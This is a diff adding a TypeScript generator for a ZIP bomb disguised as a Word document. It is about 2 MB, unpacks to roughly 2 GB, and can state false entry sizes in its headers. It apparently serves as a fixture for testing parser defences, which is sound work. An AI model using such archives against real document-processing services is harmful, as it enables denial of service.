@@ -1,0 +1,42 @@
+// An archive written by hand, because no library writes one that lies.
+import { crc32, deflateRawSync } from 'node:zlib'
+
+type BombOptions = {
+  readonly megabytes?: number
+  /** What each entry says its size is; the truth unless given. */
+  readonly declaredBytes?: number
+}
+
+const partMegabytes = 10
+
+/** A document of two megabytes that unpacks to two thousand. */
+export function createZipBomb({ megabytes = 2_000, declaredBytes }: BombOptions = {}): Buffer {
+  const part = Buffer.alloc(partMegabytes * 1024 * 1024, ' ')
+  const [packed, check] = [deflateRawSync(part), crc32(part)]
+  const files: Buffer[] = []
+  const directory: Buffer[] = []
+  let offset = 0
+  for (let index = 0; index < megabytes / partMegabytes; index++) {
+    const name = Buffer.from(index === 0 ? 'word/document.xml' : `word/part${index}.xml`)
+    const facts = Buffer.alloc(26)
+    facts.writeUInt16LE(20, 0)
+    facts.writeUInt16LE(8, 4)
+    facts.writeUInt32LE(check, 10)
+    facts.writeUInt32LE(packed.length, 14)
+    facts.writeUInt32LE(declaredBytes ?? part.length, 18)
+    facts.writeUInt16LE(name.length, 22)
+    const file = Buffer.concat([Buffer.from('PK\u0003\u0004'), facts, name, packed])
+    const place = Buffer.alloc(14)
+    place.writeUInt32LE(offset, 10)
+    directory.push(Buffer.concat([Buffer.from('PK\u0001\u0002\u0014\0'), facts, place, name]))
+    files.push(file)
+    offset += file.length
+  }
+  const list = Buffer.concat(directory)
+  const end = Buffer.alloc(18)
+  end.writeUInt16LE(files.length, 4)
+  end.writeUInt16LE(files.length, 6)
+  end.writeUInt32LE(list.length, 8)
+  end.writeUInt32LE(offset, 12)
+  return Buffer.concat([...files, list, Buffer.from('PK\u0005\u0006'), end])
+}
